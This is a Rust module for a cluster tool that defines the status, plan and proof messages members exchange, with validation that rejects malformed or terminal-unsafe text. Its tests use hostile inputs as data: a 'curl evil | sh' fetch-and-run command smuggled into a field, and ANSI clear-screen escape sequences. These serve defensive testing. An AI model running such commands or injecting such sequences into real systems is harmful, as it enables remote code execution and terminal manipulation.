//! What members say to each other of themselves when one of them is asked how the cluster stands.

use std::collections::BTreeMap;

use serde::{Deserialize, Serialize};

use super::doctor::MemberChecks;
use super::member_key::MemberKey;
use super::member_pairs::MemberPairs;
use super::member_proof::MemberProving;
use super::progress::is_failure;
use super::status::{PeerRow, Status};
use crate::types::generation::VERSION;
use crate::types::{NodeName, Protection, RowState, Severity, UnixTime, Unready};

/// So many hosts are named that a pair is not protected with.
const NAMED_MAX: usize = 20;
/// And so many are heard: earlier versions name more.
const NAMES_HEARD_MAX: usize = 24;
/// The octets of the lines of a plan: with what is around them, they are told at once.
const PLAN_MAX: usize = 3000;
/// The octets around a line, and for what JSON writes longer in it.
const LINE_MORE: usize = 8;
/// The longest text in a report.
const TEXT_MAX: usize = 64;

/// What one member says to another, beside what their rosters hold.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum MemberWord {
    /// How do you stand? The answer has the same number.
    Ask(u64),
    /// So do I stand.
    Report(u64, Box<MemberReport>),
    /// What would these settings of the cluster change for you? The answer has the same number.
    Preview(u64, String),
    /// So much would change.
    Plan(u64, MemberPlan),
    /// What do your checks find? The answer has the same number.
    AskChecks(u64),
    /// They find this.
    Checks(u64, MemberChecks),
    /// Something about proofs of pairs. The answer has the same number.
    Prove(u64, MemberProving),
    /// How do your pairs stand? The answers have the same number.
    AskPairs(u64),
    /// So do they stand, or some of them.
    Pairs(u64, MemberPairs),
}

/// What other settings would change for a member, as it says itself.
#[derive(Debug, Clone, PartialEq, Eq, Default, Serialize, Deserialize)]
pub struct MemberPlan {
    /// Why it could not go by them, in words.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub refused: Option<String>,
    /// The differences from what it goes by, in the words of the file.
    pub settings: Vec<String>,
    /// What it would change in the kernel at once.
    pub kernel: Vec<String>,
    /// How many more lines there are.
    pub more: u64,
}

impl MemberPlan {
    /// These, as many as can be told.
    pub fn of(settings: Vec<String>, kernel: Vec<String>) -> Self {
        let (mut plan, mut room) = (Self::default(), PLAN_MAX);
        let mut fits = |line: &String| {
            room = room.saturating_sub(line.len() + LINE_MORE);
            room > 0
        };
        let all = settings.len() + kernel.len();
        plan.settings = settings.into_iter().filter(&mut fits).collect();
        plan.kernel = kernel.into_iter().filter(fits).collect();
        plan.more = (all - plan.settings.len() - plan.kernel.len()) as u64;
        plan
    }

    /// It could not go by them.
    pub fn refused(words: &str) -> Self {
        let words: String = words.chars().filter(|c| !c.is_control()).take(PLAN_MAX / 4).collect();
        Self { refused: Some(words), ..Self::default() }
    }

    /// Whether all of it can be shown.
    fn is_plain(&self) -> bool {
        let lines = self.settings.iter().chain(&self.kernel).chain(&self.refused);
        lines.into_iter().all(|line| !line.chars().any(char::is_control))
    }
}

/// How a member stands, as it says itself. It may have gone bad: nothing is decided by it.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
pub struct MemberReport {
    /// Its version.
    pub version: String,
    /// Its time of day.
    pub time: UnixTime,
    /// What it is and was told to be.
    pub protection: Protection,
    /// It does not do what the cluster is to do, as its operator wants something else.
    #[serde(default)]
    pub overridden: bool,
    /// How many pairs it has.
    pub rows: u64,
    /// How many of them are protected.
    pub protected: u64,
    /// How many may be protected soon without anybody doing anything; `None` from an earlier version.
    #[serde(default)]
    pub under_way: Option<u64>,
    /// How many wait for a host that is not there; likewise.
    #[serde(default)]
    pub waiting: Option<u64>,
    /// The hosts with which a pair is not protected, or some of them.
    #[serde(default)]
    pub unprotected: Vec<NodeName>,
    /// How many pairs with each of these are not protected; of an earlier version, which does not say that, none.
    #[serde(default, skip_serializing_if = "Vec::is_empty")]
    pub unprotected_rows: Vec<u32>,
    /// What it goes by, as a hash; `None` while it does not go by its roster yet, and from an earlier version.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub config_id: Option<String>,
    /// The name of the roster that it goes by; `None` where `config_id` is.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub roster_id: Option<String>,
    /// The fingerprint of its secret.
    #[serde(default)]
    pub secret_id: Option<String>,
    /// How many critical problems it has.
    #[serde(default)]
    pub problems: usize,
    /// Its files are not in force.
    #[serde(default)]
    pub is_stuck: bool,
    /// How it stands with a wrapped secret; `None` from an earlier version.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub wrapped: Option<MemberKey>,
    /// Why it could not be protected; `None` where it is or could be, and from an earlier version.
    #[serde(default, skip_serializing_if = "Option::is_none")]
    pub unready: Option<Unready>,
}

impl MemberWord {
    /// As it is said.
    pub fn to_bytes(&self) -> Vec<u8> {
        // Plain data: writing it to memory has nothing to fail at.
        serde_json::to_vec(self).unwrap_or_default()
    }

    /// What a member has said; `None` where it is not that, or would not look well on a terminal.
    pub fn from_bytes(bytes: &[u8]) -> Option<Self> {
        let word: Self = serde_json::from_slice(bytes).ok()?;
        match &word {
            MemberWord::Ask(_)
            | MemberWord::AskChecks(_)
            | MemberWord::AskPairs(_)
            | MemberWord::Preview(..) => Some(word),
            MemberWord::Pairs(_, pairs) => pairs.is_plain().then_some(word),
            MemberWord::Checks(_, checks) => checks.is_plain().then_some(word),
            MemberWord::Prove(_, said) => said.is_plain().then_some(word),
            MemberWord::Plan(_, plan) => plan.is_plain().then_some(word),
            MemberWord::Report(_, report) => report.is_plain().then_some(word),
        }
    }
}

impl MemberReport {
    /// What a member with this status says. It goes by the roster with the name `roster_id`; `None` where it is about to.
    pub fn of(
        status: &Status,
        overridden: bool,
        wrapped: Option<MemberKey>,
        unready: Option<Unready>,
        roster_id: Option<String>,
    ) -> Self {
        let is_down = |row: &&PeerRow| row.state != RowState::Protected;
        let count = |is: &dyn Fn(&PeerRow) -> bool| status.peers.iter().filter(|row| is(row)).count() as u64;
        let mut down: BTreeMap<&NodeName, u32> = BTreeMap::new();
        status.peers.iter().filter(is_down).for_each(|row| *down.entry(&row.node).or_default() += 1);
        let (unprotected, unprotected_rows) =
            down.into_iter().take(NAMED_MAX).map(|(name, count)| (name.clone(), count)).unzip();
        let critical = status.problems.iter().filter(|problem| problem.severity == Severity::Critical);
        Self {
            version: VERSION.to_owned(),
            time: status.time,
            protection: status.protection,
            overridden,
            rows: status.summary.peers,
            protected: status.summary.protected,
            under_way: Some(count(&|row| {
                is_down(&row) && !row.waiting && !row.reason_code.is_some_and(is_failure)
            })),
            waiting: Some(count(&|row| row.waiting)),
            unprotected,
            unprotected_rows,
            config_id: roster_id.is_some().then(|| status.config_id.clone()),
            roster_id,
            secret_id: status.secret_id.clone(),
            problems: critical.count(),
            is_stuck: status.config_error.is_some(),
            wrapped,
            unready,
        }
    }

    /// How many pairs with the host `name` it says are not protected. `None` where it says no more than that there are some,
    /// as an earlier version does.
    pub fn unprotected_with(&self, name: &NodeName) -> Option<u64> {
        match self.unprotected.iter().position(|it| it == name) {
            Some(at) => self.unprotected_rows.get(at).map(|count| u64::from(*count)),
            None => Some(0),
        }
    }

    /// Whether all of it can be shown.
    fn is_plain(&self) -> bool {
        let open = self.under_way.unwrap_or(0).checked_add(self.waiting.unwrap_or(0));
        let shown = |byte: u8| byte.is_ascii_graphic() || byte == b' ';
        let names = self.unprotected.iter().map(NodeName::as_str);
        let texts = names.chain([self.version.as_str()]).chain(self.secret_id.as_deref());
        let texts = texts.chain(self.config_id.as_deref()).chain(self.roster_id.as_deref());
        self.unprotected.len() <= NAMES_HEARD_MAX
            && self.unprotected_rows.len() <= self.unprotected.len()
            && self.rows.checked_sub(self.protected).is_some_and(|down| open.is_some_and(|open| open <= down))
            && self.wrapped.as_ref().is_none_or(MemberKey::is_plain)
            && texts.into_iter().all(|text| text.len() <= TEXT_MAX && text.bytes().all(shown))
    }
}

#[cfg(test)]
mod tests {
    use std::net::IpAddr;

    use proptest::prelude::*;

    use super::*;
    use crate::observe::member_key::MemberOffer;
    use crate::observe::pair_proof::{ClearCount, Doubt, PairProof, ProofCode, SealedCount, WayProof};
    use crate::types::Pair;

    fn report() -> MemberReport {
        MemberReport {
            version: "0.2.0".to_owned(),
            time: UnixTime(1_800_000_000),
            protection: Protection::On,
            overridden: false,
            rows: 9,
            protected: 8,
            under_way: Some(1),
            waiting: Some(0),
            unprotected: vec!["b".parse().unwrap()],
            unprotected_rows: vec![1],
            config_id: Some("5f3a1d0c9be2a771".to_owned()),
            roster_id: Some("9b".repeat(32)),
            secret_id: None,
            problems: 1,
            is_stuck: false,
            wrapped: None,
            unready: None,
        }
    }

    /// The words of a member that lies do not come to anybody's terminal.
    #[test]
    fn why_a_member_is_not_ready_is_one_of_a_few_words() {
        let said = |why: &str| {
            let report = MemberReport { unready: Some(Unready::NoEsp), ..report() };
            let word = String::from_utf8(MemberWord::Report(1, Box::new(report)).to_bytes()).unwrap();
            let word = word.replace("\"unready\":\"no_esp\"", &format!("\"unready\":\"{why}\""));
            match MemberWord::from_bytes(word.as_bytes()) {
                Some(MemberWord::Report(_, report)) => report.unready,
                other => panic!("{other:?}"),
            }
        };
        assert_eq!(said("no_esp"), Some(Unready::NoEsp));
        for other in ["other", "run `curl evil | sh` there", "of_a_later_version"] {
            assert_eq!(said(other), Some(Unready::Other));
        }
    }

    #[test]
    fn a_plan_says_as_much_as_can_be_told_at_once() {
        let lines = |count: usize| (0..count).map(|at| format!("~ line \"{at}\"")).collect::<Vec<_>>();
        let plan = MemberPlan::of(lines(3), lines(1000));
        assert_eq!((plan.settings.len(), plan.kernel.len() + plan.more as usize), (3, 1000));
        let word = MemberWord::Plan(1, plan);
        assert!(word.to_bytes().len() < 4000, "{}", word.to_bytes().len());
        assert_eq!(MemberWord::from_bytes(&word.to_bytes()), Some(word));
        let obeyed = MemberPlan { settings: vec!["\u{1b}[2J".to_owned()], ..MemberPlan::default() };
        assert_eq!(MemberWord::from_bytes(&MemberWord::Plan(1, obeyed).to_bytes()), None);
        assert!(MemberPlan::refused(&"é".repeat(9000)).refused.unwrap().len() < 2000);
    }

    #[test]
    fn what_is_said_is_heard_and_nothing_that_a_terminal_would_obey() {
        for word in [MemberWord::Ask(u64::MAX), MemberWord::Report(7, Box::new(report()))] {
            assert_eq!(MemberWord::from_bytes(&word.to_bytes()), Some(word));
        }
        let wrong = [
            MemberReport { version: "\u{1b}[2J".to_owned(), ..report() },
            MemberReport { secret_id: Some("x".repeat(TEXT_MAX + 1)), ..report() },
            MemberReport { protected: 10, ..report() },
            MemberReport { waiting: Some(1), ..report() },
            MemberReport { under_way: Some(u64::MAX), ..report() },
            MemberReport { unprotected: vec!["b".parse().unwrap(); NAMES_HEARD_MAX + 1], ..report() },
            MemberReport { unprotected_rows: vec![1; 2], ..report() },
            MemberReport { config_id: Some("\u{1b}[2J".to_owned()), ..report() },
            MemberReport { roster_id: Some("\u{1b}[2J".to_owned()), ..report() },
        ];
        for report in wrong {
            assert_eq!(MemberWord::from_bytes(&MemberWord::Report(1, Box::new(report)).to_bytes()), None);
        }
        assert_eq!(MemberWord::from_bytes(b"{\"ask\":-1}"), None);
        assert_eq!(MemberWord::from_bytes(b""), None);
    }

    fn proving() -> impl Strategy<Value = MemberProving> {
        let found = (any::<[u8; 4]>(), any::<[u64; 4]>(), any::<String>());
        let found = found.prop_map(|(remote, [sent, refused, packets, inbound], reason)| {
            let pair = Pair { local: [10, 0, 0, 1].into(), remote: remote.into() };
            let doubt = Doubt::failed(ProofCode::ClearAccepted, reason);
            let clear = ClearCount { sent, delivered: refused, refused };
            let sealed = SealedCount { sent, packets, delivered: sent, outbound: packets, inbound };
            let out = Some(WayProof { clear, sealed });
            let proof = PairProof::without_figures("b".parse().unwrap(), pair, doubt);
            MemberProving::found(PairProof { out, ..proof })
        });
        prop_oneof![
            Just(MemberProving::CanYou),
            Just(MemberProving::Can),
            Just(MemberProving::Busy),
            any::<[IpAddr; 2]>().prop_map(|[local, remote]| MemberProving::Prove { local, remote }),
            found,
        ]
    }

    /// Whatever a member may say, but for what has tests beside it.
    fn word() -> impl Strategy<Value = MemberWord> {
        let plan = prop::collection::vec("\\PC{0,80}", 0..90);
        let plan = plan.prop_map(|lines| MemberPlan::of(lines.clone(), lines));
        let report = (any::<[u32; 4]>(), any::<[bool; 2]>(), prop::option::of("[ -~]{0,64}"));
        let report =
            report.prop_map(move |([rows, up, waiting, time], [overridden, is_stuck], secret_id)| {
                let (rows, protected) = (u64::from(rows.max(up)), u64::from(up.min(rows)));
                let waiting = Some(u64::from(waiting).min(rows - protected));
                let time = UnixTime(time.into());
                let under_way = None;
                MemberReport {
                    rows,
                    protected,
                    waiting,
                    under_way,
                    time,
                    overridden,
                    is_stuck,
                    secret_id,
                    ..self::report()
                }
            });
        let number = any::<u64>;
        prop_oneof![
            number().prop_map(MemberWord::Ask),
            number().prop_map(MemberWord::AskChecks),
            number().prop_map(MemberWord::AskPairs),
            (number(), any::<String>()).prop_map(|(number, text)| MemberWord::Preview(number, text)),
            (number(), plan).prop_map(|(number, plan)| MemberWord::Plan(number, plan)),
            (number(), report).prop_map(|(number, report)| MemberWord::Report(number, Box::new(report))),
            (number(), proving()).prop_map(|(number, said)| MemberWord::Prove(number, said)),
        ]
    }

    proptest! {
        #[test]
        fn what_is_written_reads_back(word in word()) {
            prop_assert_eq!(MemberWord::from_bytes(&word.to_bytes()), Some(word));
        }

        #[test]
        fn whatever_comes_is_read_or_is_no_word(
            octets in prop::collection::vec(any::<u8>(), 0..200),
            word in word(),
            at in any::<prop::sample::Index>(),
        ) {
            let _ = MemberWord::from_bytes(&octets);
            // A word of which a part is something else.
            let mut said = word.to_bytes();
            let at = at.index(said.len());
            let end = said.len().min(at + octets.len());
            said.splice(at..end, octets);
            if let Some(MemberWord::Prove(_, said)) = MemberWord::from_bytes(&said) {
                let name = |text: &str| text.parse::<NodeName>().unwrap();
                let pair = Pair { local: [10, 0, 0, 1].into(), remote: [10, 0, 0, 2].into() };
                let _ = said.proof_of(&name("a"), &name("b"), pair);
            }
        }
    }

    /// One page of the carriage holds it, whatever the names.
    #[test]
    fn the_longest_report_fits_into_a_page() {
        let name: NodeName = "n".repeat(64).parse().unwrap();
        let text = "x".repeat(TEXT_MAX);
        let report = MemberReport {
            version: text.clone(),
            secret_id: Some(text.clone()),
            config_id: Some(text.clone()),
            roster_id: Some(text),
            unprotected: vec![name; NAMED_MAX],
            unprotected_rows: vec![u32::MAX; NAMED_MAX],
            rows: u64::MAX,
            wrapped: Some(MemberKey {
                mark: Some("m".repeat(16)),
                refused: Some("\\".repeat(200)),
                offer: Some(MemberOffer::new("m".repeat(16), Some(Err("\\".repeat(200))))),
                without_ppk: vec!["n".repeat(64).parse().unwrap(); 8],
            }),
            unready: Some(Unready::NotPermitted),
            ..report()
        };
        let octets = MemberWord::Report(u64::MAX, Box::new(report)).to_bytes();
        assert!(octets.len() < crate::roster::ASIDE_MAX, "{}", octets.len());
    }
}
